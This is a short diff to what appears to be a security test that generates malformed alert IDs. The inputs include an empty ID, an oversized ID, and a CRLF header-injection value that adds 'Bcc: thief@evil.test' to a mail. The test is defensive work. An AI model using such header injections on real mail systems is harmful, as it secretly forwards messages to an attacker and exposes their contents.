@@ -266,7 +266,7 @@ def alerts(run: str, now_ms: int | None = None) -> list[Hostile]:
     )
     out = generic(good.encode(), {SENDER, SINK})
     injected = replace(good, alert_id=f"{run}-x\r\nBcc: thief@evil.test")  # a header injection into the mail
-    out.append(Hostile("alert_id_header_injection", b"k", injected.encode(), frozenset({SENDER})))
+    out.append(Hostile("alert_id_header_injection", b"k", injected.encode(), frozenset({SENDER, SINK})))
     out.append(Hostile("alert_id_empty", b"k", replace(good, alert_id="").encode(), frozenset({SENDER, SINK})))
     out.append(
         Hostile("alert_id_over_512", b"k", replace(good, alert_id="a" * 600).encode(), frozenset({SENDER, SINK}))
